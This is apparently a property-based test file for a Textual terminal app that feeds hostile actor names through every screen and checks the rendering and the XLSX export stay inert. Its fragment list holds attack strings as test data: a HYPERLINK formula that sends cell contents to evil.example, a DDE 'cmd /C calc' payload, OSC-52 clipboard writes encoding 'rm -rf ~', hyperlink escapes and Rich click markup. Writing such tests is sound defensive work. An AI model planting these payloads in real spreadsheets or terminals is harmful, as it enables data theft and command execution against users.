"""Hostile names through every TUI screen that shows them (issue 13, property test).

Names, notes, kegiatan topics, agreement titles and link topics are drawn from an
alphabet of what attacks a terminal or a spreadsheet: formula prefixes, TAB/CR,
Rich markup, CSI/OSC-52/OSC-8 escapes in 7- and 8-bit form, C0/C1 controls, NUL,
bidi overrides, zero-width characters, very long runs. They are written straight
into the store (the import refuses control characters; the store takes them, and a
store written by an older version or another tool may hold them). Each screen is
then opened and what Textual would send to the terminal is inspected: no escape,
no control, the markup shown as text; the gap list's XLSX export holds no formula.

Pilot is slow, so hypothesis draws a few stores (fixed seed, derandomised), each
with several hostile actors.
"""

from __future__ import annotations

import asyncio
import datetime as dt
import re
import shutil
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, Phase, example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from textual.geometry import Region
from textual.pilot import Pilot
from textual.widget import Widget
from textual.widgets import DataTable, Input
from tui_helpers import ready, screen_text, settle, until

from sinergi_graph.activities import Activity, Agreement
from sinergi_graph.config import Settings
from sinergi_graph.models import CoordinationLink
from sinergi_graph.personal import looks_personal
from sinergi_graph.store.embedded import EmbeddedStore
from sinergi_graph.text import FORMULA_TRIGGERS, printable
from tui.app import SinergiApp
from tui.gaps_screen import GapsScreen
from tui.main_screen import MainScreen
from tui.messages import NetworkChanged
from tui.network_screen import NetworkScreen
from tui.path_screen import PathScreen
from tui.plan_screen import PlanScreen
from tui.records_screen import AgreementsScreen, KegiatanScreen

pytestmark = pytest.mark.trust("output_safety")

AS_OF = dt.date(2024, 6, 1)

# Pieces a hostile name is made of. The attack is in the combination: a formula
# prefix first, markup that closes what it never opened, an escape split by a
# zero-width joiner, a CR that would overwrite the start of the line.
FRAGMENTS = [
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\r\n",
    '=HYPERLINK("http://evil.example/?"&A2,"klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "[/]",
    "[bold red]",
    "[link=http://evil.example]klik[/link]",
    "[/link]",
    "[@click=app.quit]x[/]",
    "\\[",
    "\\",
    "\x1b[2J",
    "\x1b[H",
    "\x1b[31m",
    "\x1bc",
    "\x1b]52;c;cm0gLXJmIH4K\x07",
    "\x1b]52;c;cm0gLXJmIH4K\x1b\\",
    "\x1b]8;;http://evil.example\x1b\\",
    "\x1b]8;;\x1b\\",
    "\x1b]0;judul",  # unterminated OSC: its introducer must go, the rest is text
    "\x9b2J",
    "\x9d0;judul\x9c",
    "\x1bP+q544e\x1b\\",
    "\x00",
    "\x07",
    "\x08",
    "\x0b",
    "\x0c",
    "\x7f",
    "\x85",
    "\x9f",
    "\u202e",
    "\u202d",
    "\u2066",
    "\u2069",
    "\u200b",
    "\u200d",
    "\ufeff",
    "\u2028",
    "Tepus",
    "Désa",
    " ",
    "x" * 300,  # very long: tables cut it, the detail wraps it
]

hostile = st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=6).map("".join)

# Five actors of the fixed Tepus network that are on the gap list, in a link, and
# in the path and the network view: the PPS of Sumberwungu and its counterparts.
VICTIMS = [
    "PPS-3403072002",
    "LURAH-3403072002",
    "PPK-340307",
    "KAPOLSEK-340307",
    "KPU_KAB-3403",
]

# What a terminal obeys rather than shows. Textual's own styling travels as Style
# objects beside a segment's text, never as bytes inside it, so this is about the data.
OBEYED = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
# What rendering may legitimately drop or that has no cell width: zero-width
# characters, and the whitespace that lines are wrapped on.
INVISIBLE = re.compile(r"[\u200b-\u200d\ufeff\s]+")


def _shown(value: str) -> str:
    """The text a person should see for ``value``: printable, one line, spacing aside."""
    return INVISIBLE.sub("", printable(value, multiline=False))


def _plant(db: Path, names: list[str], notes: list[str], topics: list[str]) -> dict[str, str]:
    """Give the victims hostile names and notes, and add hostile links and records."""
    store = EmbeddedStore(db)
    try:
        actors = {a.id: a for a in store.actors(VICTIMS)}
        renamed = [
            actors[aid].model_copy(update={"name": f"{name} Jahat{i}", "note": note})
            for i, (aid, name, note) in enumerate(zip(VICTIMS, names, notes, strict=True))
        ]
        links = [
            CoordinationLink.create(
                VICTIMS[3], VICTIMS[4], topic=topics[0], type="RAPAT", date=dt.date(2024, 5, 2)
            ),
            CoordinationLink.create(VICTIMS[2], VICTIMS[3], topic=topics[1], type="KOORDINASI"),
        ]
        store.upsert(
            renamed,
            links,
            activities=[
                Activity(
                    id="KEG-JAHAT",
                    date=dt.date(2024, 5, 1),
                    topic=topics[2],
                    place=names[0],
                    note=notes[1],
                    attendees=(VICTIMS[2], VICTIMS[0]),
                )
            ],
            agreements=[
                Agreement(
                    id="MOU-JAHAT",
                    title=f"{topics[3]} MoU",
                    number=names[1],
                    parties=(VICTIMS[2], VICTIMS[4]),
                    note=notes[2],
                )
            ],
        )
        return {a.id: a.name for a in renamed}
    finally:
        store.close()


def _obeyed_on_screen(app: SinergiApp) -> list[str]:
    """Every character the terminal would obey, in what the screen would draw now."""
    found: list[str] = []
    for strip in app.screen._compositor.render_strips():
        for segment in strip:
            found.extend(OBEYED.findall(segment.text))
    svg = app.export_screenshot()
    found.extend(OBEYED.findall(svg.replace("\n", "").replace("\t", "")))
    return found


def _assert_inert(app: SinergiApp, where: str) -> None:
    assert app.is_running, f"{where}: the app stopped"
    leaks = _obeyed_on_screen(app)
    assert not leaks, f"{where}: {leaks!r} reach the terminal"


def _drawn(widget: Widget) -> str:
    """What ``widget`` draws, all of it (scrolled out or not), spacing aside."""
    region = Region(0, 0, widget.size.width, widget.size.height)
    drawn = "".join(seg.text for strip in widget.render_lines(region) for seg in strip)
    return INVISIBLE.sub("", drawn)


def _visible_detail(main: MainScreen) -> Widget:
    panel = next(p for p in main.details() if p.display and p.region.area)
    return panel.query_one("#detail-body")


def _text(app: SinergiApp) -> str:
    return INVISIBLE.sub("", screen_text(app))


def _check_xlsx_inert(path: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        for member in archive.namelist():
            if member.startswith("xl/worksheets/"):
                assert "<f>" not in archive.read(member).decode("utf-8"), member
    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                if isinstance(cell.value, str) and cell.value[:1] in FORMULA_TRIGGERS:
                    assert cell.quotePrefix, cell.value


async def _drive(app: SinergiApp, names: dict[str, str], notes: list[str], out: Path) -> None:
    async with app.run_test(size=(160, 48)) as pilot:
        await ready(pilot)
        main = app.screen
        assert isinstance(main, MainScreen)
        _assert_inert(app, "start")
        # The area tree, the actor table, the detail pane and the status bar.
        for (aid, name), note in zip(names.items(), notes, strict=True):
            main.jump_to_actor(aid)
            await settle(pilot)
            assert main.detail is not None and main.detail.actor.id == aid
            _assert_inert(app, f"detail of {aid}")
            # Long names are cut in the table; the detail shows the whole name, wrapped.
            drawn = _drawn(_visible_detail(main))
            assert _shown(name) in drawn, (aid, _shown(name))
            # The note sits below the partners: in the detail's text, maybe scrolled out.
            held = INVISIBLE.sub("", str(_visible_detail(main).render()))
            # A note shaped like a contact (an "@") is hidden until contacts are shown.
            assert _shown(note) in held or looks_personal(note), (aid, _shown(note))
        assert "Kab.Gunungkidul" in _text(app)  # the tree is intact

        # Search (ctrl+p): the hits' labels are the hostile names.
        await pilot.press("ctrl+p")
        await settle(pilot)
        await pilot.press(*"jahat")
        await until(pilot, lambda: "Jahat" in screen_text(app))
        _assert_inert(app, "search")
        await pilot.press("escape")
        await settle(pilot)

        # The gap list, and its XLSX export (x): no formula, whatever the names.
        main.jump_to_actor(VICTIMS[0])
        await settle(pilot)
        await pilot.press("g")
        await settle(pilot)
        gaps = app.screen
        assert isinstance(gaps, GapsScreen)
        _assert_inert(app, "gaps")
        assert "Jahat0" in screen_text(app)
        target = out / "celah.xlsx"
        await pilot.press("x")
        await settle(pilot)
        app.screen.query_one(Input).value = str(target)
        await pilot.press("enter")
        await until(pilot, lambda: gaps.last_export == target)
        _check_xlsx_inert(target)
        book = load_workbook(target)
        cells = {c.value for s in book.worksheets for r in s.iter_rows() for c in r}
        assert any(isinstance(v, str) and "Jahat0" in v for v in cells)
        _assert_inert(app, "gaps after export")
        await pilot.press("escape")
        await settle(pilot)

        # Propose a link (l) and the plan (p).
        main.jump_to_actor(VICTIMS[0])
        await settle(pilot)
        await pilot.press("l")
        await settle(pilot)
        _assert_inert(app, "propose link")
        await pilot.press("enter")
        await settle(pilot)
        assert isinstance(app.screen, PlanScreen)
        _assert_inert(app, "plan")
        assert "Jahat0" in screen_text(app)
        await pilot.press("escape")
        await settle(pilot)

        # The path screen: suggestions as one types, then the path between two victims.
        await pilot.press("r")
        await settle(pilot)
        path = app.screen
        assert isinstance(path, PathScreen)
        await pilot.press(*"jahat")
        await settle(pilot)
        _assert_inert(app, "path suggestions")
        path.choose(VICTIMS[0], VICTIMS[3])
        await settle(pilot)
        _assert_inert(app, "path")
        await pilot.press("escape")
        await settle(pilot)

        # The network view (n) is checked by its own test below; here it only has to
        # open and close without a crash.
        await _open_network(pilot, app, check=False)

        # Kegiatan (v) and kerja sama (m) lists.
        main.jump_to_actor(VICTIMS[2])
        await settle(pilot)
        await pilot.press("v")
        await settle(pilot)
        assert isinstance(app.screen, KegiatanScreen)
        table = app.screen.query_one("#keg-table", DataTable)
        assert table.row_count >= 1
        _assert_inert(app, "kegiatan")
        await pilot.press("escape", "m")
        await settle(pilot)
        assert isinstance(app.screen, AgreementsScreen)
        rows = app.screen.query_one("#agr-table", DataTable)
        titles = [str(rows.get_row_at(i)[1]) for i in range(rows.row_count)]
        assert any(t.endswith("MoU") for t in titles), titles
        _assert_inert(app, "agreements")
        await pilot.press("escape")
        await settle(pilot)

        # Recording a kegiatan (h): attendee candidates and the chosen list show names.
        await pilot.press("h")
        await settle(pilot)
        app.screen.query_one("#kf-search", Input).value = "jahat"
        await settle(pilot)
        await until(pilot, lambda: "Jahat" in screen_text(app))
        _assert_inert(app, "kegiatan form")
        await pilot.press("escape")
        await settle(pilot)

        # The edit form shows the name in its fields; saving it is refused or stored,
        # either way the problem line and the form stay inert.
        main.jump_to_actor(VICTIMS[1])
        await settle(pilot)
        await pilot.press("e")
        await settle(pilot)
        _assert_inert(app, "edit form")
        await pilot.press("ctrl+s")
        await settle(pilot)
        _assert_inert(app, "edit form, saved")
        if not isinstance(app.screen, MainScreen):
            await pilot.press("escape")
            await settle(pilot)

        # What an edit announces (status bar, notification) and the error modal quote names.
        first = next(iter(names.values()))
        app.post_message(NetworkChanged(f"Aktor dikoreksi: {first}"))
        await settle(pilot)
        _assert_inert(app, "notification")
        app.show_failure(f"Tidak dapat membaca {first}", fatal=True)
        await settle(pilot)
        _assert_inert(app, "error modal")
        assert _shown(first)[:40] in _text(app)
        await pilot.press("escape")
        await settle(pilot)
        assert app.is_running


async def _open_network(pilot: Pilot[None], app: SinergiApp, *, check: bool) -> None:
    """The network view (n) around the first victim, then its kecamatan (t), with the recap."""
    main = app.screen
    assert isinstance(main, MainScreen)
    main.jump_to_actor(VICTIMS[0])
    await settle(pilot)
    await pilot.press("n")
    await settle(pilot)
    assert isinstance(app.screen, NetworkScreen)
    assert app.screen.query_one("#net-summary", DataTable).row_count >= 1  # the recap
    if check:
        _assert_inert(app, "network")
    await pilot.press("t")
    await settle(pilot)
    if check:
        _assert_inert(app, "network, kecamatan")
    await pilot.press("escape")
    await settle(pilot)
    assert isinstance(app.screen, MainScreen)


async def _drive_network(app: SinergiApp) -> None:
    async with app.run_test(size=(160, 48)) as pilot:
        await ready(pilot)
        await _open_network(pilot, app, check=True)


SETTINGS = settings(
    max_examples=4,
    deadline=None,
    derandomize=True,
    database=None,
    # A failing store is reported as drawn: shrinking would replay Pilot hundreds of times.
    phases=[Phase.explicit, Phase.generate],
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
STORES = given(
    names=st.lists(hostile, min_size=len(VICTIMS), max_size=len(VICTIMS)),
    notes=st.lists(hostile, min_size=len(VICTIMS), max_size=len(VICTIMS)),
    topics=st.lists(hostile, min_size=4, max_size=4),
)


def _app(
    folder: Path, fixed_template: Path, names: list[str], notes: list[str], topics: list[str]
) -> tuple[SinergiApp, dict[str, str]]:
    db = shutil.copyfile(fixed_template, folder / "net.db")
    planted = _plant(db, names, notes, topics)
    app = SinergiApp(Settings(db=db, neo4j_uri=None), as_of=AS_OF, export_dir=folder / "exports")
    return app, planted


@SETTINGS
@STORES
def test_hostile_names_are_inert_on_every_screen(
    fixed_template: Path, names: list[str], notes: list[str], topics: list[str]
) -> None:
    with tempfile.TemporaryDirectory() as folder:
        app, planted = _app(Path(folder), fixed_template, names, notes, topics)
        asyncio.run(_drive(app, planted, notes, Path(folder)))


# The network view draws names in its title, canvas labels and recap: leaked escapes
# until dd4af83 (found by this test).
@settings(SETTINGS, max_examples=2)
@STORES
# Always one store whose names carry escapes, whatever the draw gives.
@example(names=["\x1b[2JPPS \x1b]52;c;cm0gLXJm\x07"] * 5, notes=["n"] * 5, topics=["t"] * 4)
def test_hostile_names_are_inert_in_the_network_view(
    fixed_template: Path, names: list[str], notes: list[str], topics: list[str]
) -> None:
    with tempfile.TemporaryDirectory() as folder:
        app, _ = _app(Path(folder), fixed_template, names, notes, topics)
        asyncio.run(_drive_network(app))


async def test_the_edit_form_shows_a_stored_name_printable_and_saves_what_it_showed(
    fixed_db: Path, make_app: Callable[..., SinergiApp]
) -> None:
    # Found by the property test above: an Input drew the stored name raw.
    from tui.edit_form import ActorForm

    store = EmbeddedStore(fixed_db)
    try:
        (actor,) = store.actors([VICTIMS[0]])
        store.upsert(
            [
                actor.model_copy(
                    update={"name": "PPS \x1b[2JSumber\x9fwungu", "note": "baris 1\nbaris\x07 2"}
                )
            ],
            [],
        )
    finally:
        store.close()
    app = make_app(fixed_db)
    async with app.run_test(size=(120, 40)) as pilot:
        await ready(pilot)
        app.screen.jump_to_actor(VICTIMS[0])
        await settle(pilot)
        await pilot.press("e")
        await settle(pilot)
        form = app.screen
        assert isinstance(form, ActorForm)
        assert form.query_one("#f-name", Input).value == "PPS Sumberwungu"
        assert form.query_one("#f-note", Input).value == "baris 1 baris 2"
        _assert_inert(app, "edit form")
        form.query_one("#f-phone", Input).value = "0812 3456 7890"
        await pilot.press("ctrl+s")
        await until(pilot, lambda: isinstance(app.screen, MainScreen))
        await settle(pilot)
    store = EmbeddedStore(fixed_db)
    try:
        (saved,) = store.actors([VICTIMS[0]])
    finally:
        store.close()
    # Saved as shown; the field left alone keeps its line break.
    assert (saved.name, saved.note, saved.phone) == (
        "PPS Sumberwungu",
        "baris 1\nbaris 2",
        "0812 3456 7890",
    )
